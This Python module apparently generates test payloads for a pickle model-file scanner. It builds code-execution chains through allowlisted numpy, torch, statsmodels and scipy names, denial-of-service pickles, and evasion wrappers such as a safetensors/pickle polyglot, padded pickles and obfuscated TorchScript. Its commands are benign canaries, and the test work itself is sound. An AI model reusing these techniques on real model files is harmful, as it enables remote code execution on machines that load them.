"""Payloads of known names alone: each gives a class or function that ordinary files name what these never give it.

A trap is something that runs when it is called, iterated, compared or looked into. None of the files is to be called
safe, whatever the name. `GIVEN` are the ways to give a name a trap, `CHAINS` calls that work with known names alone.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Callable

from attacks.assemble import called, dotted, listed, mapped, name, number, pickled, raw, several, text
from attacks.live import SYSTEM, touch

LOADER = name("torch.storage", "_load_from_bytes")
NAMESPACE = name("argparse", "Namespace") + b")\x81"
# What a known name must never be given, by what it is.
TRAPS: dict[str, bytes] = {
    "a function": name("builtins", "print"),
    "a function of a loader": LOADER,
    "getattr": name("builtins", "getattr"),
    "type": name("builtins", "type"),
    "part of a function": called(name("functools", "partial"), name("builtins", "print")),
    "a method": called(name("builtins", "getattr"), NAMESPACE, text("run")),
    "an object with a function": NAMESPACE + mapped(text("keys"), name("builtins", "print")) + b"b",
    "an endless iterator": called(name("itertools", "count")),
    "an iterator of calls": called(name("builtins", "map"), name("builtins", "print"), listed(number(1))),
}
# Ways to give a name a trap.
GIVEN: dict[str, Callable[[bytes, bytes], bytes]] = {
    "REDUCE": called,
    "REDUCE, second": lambda named, trap: called(named, number(1), trap),
    "REDUCE, third": lambda named, trap: called(named, text("a"), number(1), trap),
    "REDUCE, in a list": lambda named, trap: called(named, listed(trap)),
    "REDUCE, in a dict": lambda named, trap: called(named, mapped(text("a"), trap)),
    "REDUCE, as a key": lambda named, trap: called(named, mapped(trap, number(1))),
    "REDUCE, in a tuple": lambda named, trap: called(named, several(trap, trap)),
    "NEWOBJ": lambda named, trap: named + several(trap) + b"\x81",
    "NEWOBJ_EX": lambda named, trap: named + several() + mapped(text("a"), trap) + b"\x92",
    "OBJ": lambda named, trap: b"(" + named + trap + b"o",
    "BUILD": lambda named, trap: named + b")\x81" + mapped(text("defaults"), trap) + b"b",
    "BUILD of slots": lambda named, trap: named + b")\x81" + several(b"N", mapped(text("a"), trap)) + b"b",
    "BUILD with a setter": lambda named, trap: named + b")\x81" + mapped(text("__setstate__"), trap) + b"b",
    "BUILD with a class": lambda named, trap: named + b")\x81" + mapped(text("__class__"), trap) + b"b",
    "BUILD of no dict": lambda named, trap: named + b")\x81" + trap + b"b",
    "BUILD of a tuple": lambda named, trap: named + b")\x81" + several(trap, trap, trap) + b"b",
    "BUILD after REDUCE": lambda named, trap: called(named) + mapped(text("a"), trap) + b"b",
    "BUILD twice": lambda named, trap: named + b")\x81}b" + mapped(text("a"), trap) + b"b",
    "APPEND": lambda named, trap: named + b")\x81" + trap + b"a",
    "APPENDS after BUILD": lambda named, trap: named + b")\x81}b(" + trap + b"e",
    "SETITEM": lambda named, trap: named + b")\x81" + text("a") + trap + b"s",
    "ADDITEMS": lambda named, trap: named + b")\x81(" + trap + b"\x90",
    "by the memo": lambda named, trap: trap + b"\x940" + called(named, b"h\x00"),
    "and thrown away": lambda named, trap: called(named, trap) + b"0N",
    "and called": lambda named, trap: called(called(named, trap), number(1)),
}
# Names of every kind that ordinary files call: functions, classes of Python, of numpy, torch and others.
NAMES = [
    (module, each)
    for line in """
    numpy.random._pickle __generator_ctor __bit_generator_ctor __randomstate_ctor
    numpy._core.multiarray _reconstruct scalar
    numpy._core.numeric _frombuffer
    numpy dtype
    numpy.ma.core _mareconstruct
    torch._utils _rebuild_tensor_v2 _rebuild_parameter _rebuild_sparse_tensor _rebuild_device_tensor_from_numpy
    torch._tensor _rebuild_from_type_v2
    torch.jit._pickle restore_type_tag build_tensorlist
    torch Size device Generator
    torch.nn.modules.linear Linear
    torch.nn.modules.rnn LSTM
    torch.optim.adamw AdamW
    torch.optim.lr_scheduler LambdaLR
    torch.distributed.checkpoint.metadata MetadataIndex TensorProperties
    collections UserDict UserList ChainMap UserString
    datetime datetime timedelta timezone
    decimal Decimal
    fractions Fraction
    pathlib PosixPath PurePosixPath
    uuid UUID SafeUUID
    inspect Parameter Signature
    random Random
    logging getLogger Logger
    re _compile
    array array _array_reconstructor
    io BytesIO StringIO
    functools partial
    omegaconf.dictconfig DictConfig
    omegaconf.nodes AnyNode
    lightning.fabric.utilities.data AttributeDict
    pandas.core.indexes.base _new_Index
    pandas._libs.internals _unpickle_block
    pandas DataFrame
    sklearn.tree._tree Tree
    sklearn.isotonic IsotonicRegression
    sklearn.neighbors._kd_tree newObj
    xgboost.core Booster
    lightgbm.basic Booster
    statsmodels.base.data ModelData
    scipy.stats._continuous_distns norm_gen
    joblib.numpy_pickle NumpyArrayWrapper
    transformers.training_args TrainingArguments
    transformers.trainer_utils IntervalStrategy
    """.strip().splitlines()
    for module, *names in [line.split()]
    for each in names
]
_TEMPLATE = "\ndef _parse_args(self,  loc=__import__('os').system('true'), scale=1):\n    return (), loc, scale\n"
# Calls of known names alone that run something, or take all memory or time.
CHAINS: dict[str, bytes] = {
    "a constructor that calls a loader": called(
        name("numpy.random._pickle", "__generator_ctor"), raw(pickled(called(SYSTEM, text("true")))), LOADER
    ),
    "a formula that is evaluated": name("statsmodels.base.data", "ModelData") + b")\x81" + mapped(
        text("restore_model_spec"), b"\x88", text("formula"), text("y ~ I(__import__('os').system('true'))"),
        text("frame"), mapped(),
    ) + b"b",
    "a template that is executed": name("scipy.stats._continuous_distns", "norm_gen") + b")\x81" + mapped(
        text("_parse_arg_template"), text(_TEMPLATE)
    ) + b"b",
    "a count without end": called(name("builtins", "list"), called(name("itertools", "count"))),
    "a fraction of a billion digits": called(name("fractions", "Fraction"), text("1e999999999")),
    "an array of more objects than its list has": called(
        name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), several(number(0)), raw(b"b")
    ) + several(
        number(1), several(number(10**10)), called(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88"),
        b"\x89", listed(b"N"),
    ) + b"b",
    "a pattern that prints": called(name("re", "_compile"), text("a"), number(128)),
    "an optimizer whose method is an object": name("torch.optim.sgd", "SGD") + b")\x81" + mapped(
        text("defaults"), mapped(), text("param_groups"), listed(mapped()), text("_patch_step_function"), NAMESPACE
    ) + b"b",
    "a bound of a space that is no array": name("gymnasium.spaces.box", "Box") + b")\x81" + mapped(
        text("low"), NAMESPACE, text("high"), NAMESPACE
    ) + b"b",
    "a layer of billions": called(name("torch.nn.modules.linear", "Linear"), number(10**6), number(10**6)),
    "an LSTM of billions of layers": name("torch.nn.modules.rnn", "LSTM") + b")\x81" + mapped(
        text("num_layers"), number(1 << 40), text("_all_weights"), listed(), text("bidirectional"), b"\x89"
    ) + b"b",
    "an expression of sympy": called(name("sympy.functions.elementary.complexes", "Abs"), text("__import__('os')")),
    "a template of jinja2": called(name("jinja2.environment", "Template"), text("{{ 1 }}")),
    "an annotation": called(name("typing", "ForwardRef"), text("print(1)")),
    "a class that is no class": called(name("torch", "Size"), called(name("builtins", "iter"), NAMESPACE)),
    "a dict that is changed afterwards": (
        mapped(text("a"), number(1)) + b"\x940" + called(name("torch.jit._pickle", "build_intlist"), b"h\x00")
        + b"0h\x00" + text("b") + LOADER + b"s"
    ),
    "a state with a number for a key": NAMESPACE + mapped(number(1), number(2)) + b"b",
    "a path through a class": called(dotted("collections", "OrderedDict.__init_subclass__"), text("a")),
    "an item of a type": called(name("_operator", "getitem"), NAMESPACE, text("a")),
    "a method of an enumeration": called(
        name("builtins", "getattr"), name("uuid", "SafeUUID"), text("mro")
    ),
    "a scheduler with a function": name("torch.optim.lr_scheduler", "LambdaLR") + b")\x81" + mapped(
        text("lr_lambdas"), listed(name("os", "system"))
    ) + b"b",
}  # fmt: skip


def _safetensors(evil: bytes) -> bytes:
    """A sound safetensors file that is a pickle too: its length is an instruction that skips its first bytes."""
    head = b'{"__metadata__":{"a":"'
    size = next(size for size in range(20_000, 30_000) if size & 0xFF == ord("X"))
    # Bytes 1 to 4 of the length are that of a text, which begins with bytes 5 to 7.
    begin = head.ljust((size >> 8) - 3, b"y") + b"0" + evil.replace(b"\n", b"\n")
    header = (begin + b'"},"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}').ljust(size)
    return struct.pack("<Q", size) + header + b"\0"


def _tar(evil: bytes) -> bytes:
    """A tar archive whose first name begins a text, which ends after two megabytes."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        member = tarfile.TarInfo("V" + "a" * 50)
        data = b"b" * (2 << 20) + b"\n0" + evil
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return out.getvalue()


def _script(code: bytes) -> Callable[[bytes], bytes]:
    return lambda evil: _zip(
        {"a/data.pkl": pickled(b"N"), "a/code/__torch__/m.py": code, "a/constants.pkl": pickled(b"N")}
    )


def _bytecode(operator: str) -> bytes:
    parts = {"instructions": several(), "operators": several(several(text(operator), text("")))}
    function = several(*(several(text(part), value) for part, value in parts.items()))
    functions = pickled(several(number(9), several(text("__torch__.M.forward"), function)))
    return _zip({"a/data.pkl": pickled(b"N"), "a/bytecode.pkl": functions})


def _described(described: object) -> bytes:
    return json.dumps(described).encode()


# By name: the name of a file, and what makes it of the opcodes of an attack, with their end.
FILES: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "a safetensors file that is a pickle": ("pytorch_model.bin", _safetensors),
    "a tar archive that is a pickle": ("model.tar", _tar),
    "behind ten thousand pickles": ("x.pkl", lambda evil: pickled(b"N") * 10_001 + b"\x80\x04" + evil),
    "behind a long text": ("x.pkl", lambda evil: pickled(b"N") + b"V" + b"a" * (3 << 20) + b"\n0" + evil),
    "a program with a blank": ("m.pt", _script(b'def f(x):\n  torch.save (x, "y")\n')),
    "a program with a tab": ("m.pt", _script(b'def f(x):\n  torch.save\t(x, "y")\n')),
    "a program with a comment": ("m.pt", _script(b'def f(x):\n  torch . save # a\n  (x, "y")\n')),
    "a program with parentheses": ("m.pt", _script(b'def f(x):\n  (torch).save(x, "y")\n')),
    "a program with another name for torch": ("m.pt", _script(b'def f(x):\n  t = torch\n  t.save(x, "y")\n')),
    "a program with another name for a function": ("m.pt", _script(b'def f(x):\n  s = ops.aten.save\n  s(x, "y")\n')),
    "a program behind quotes": ("m.pt", _script(b'x = """\\""" """\ntorch.save(x, "y")\ny = """ """\n')),
    "bytecode": ("m.ptl", lambda evil: _bytecode("aten::save")),
    "bytecode of an unknown operator": ("m.ptl", lambda evil: _bytecode("mine::run")),
    "a program behind much": ("m.pt", _script(b"#" + b"a" * (17 << 20) + b'\ntorch.save(x, "y")\n')),
    "a program with an unknown operator": ("m.pt", _script(b"ops.my_ops.run(x)\n")),
    "an expression of torch.export": (
        "m.pt2", lambda evil: _zip({"a/models/model.json": _described({"expr_str": "__import__('os').system('true')"})})
    ),
    "a guard of torch.export": (
        "m.pt2", lambda evil: _zip({"a/models/model.json": _described({"guards_code": ["print(1)"]})})
    ),
    "a pickle in JSON": (
        "ppo.zip",
        lambda evil: _zip({"data": _described({"p": {":serialized:": base64.b64encode(b"\x80\x04" + evil).decode()}})}),
    ),
}  # fmt: skip


def evil(canary: str) -> bytes:
    """The opcodes of an attack, with their end."""
    return called(SYSTEM, touch(canary)) + b"."


def payloads() -> dict[str, bytes]:
    """All files of known names that are given a trap."""
    found = {
        f"{module}.{each}: {how}, {what}": b"\x80\x04" + give(name(module, each), trap) + b"."
        for module, each in NAMES
        for how, give in GIVEN.items()
        for what, trap in TRAPS.items()
    }
    return found | {what: b"\x80\x04" + chain + b"." for what, chain in CHAINS.items()}
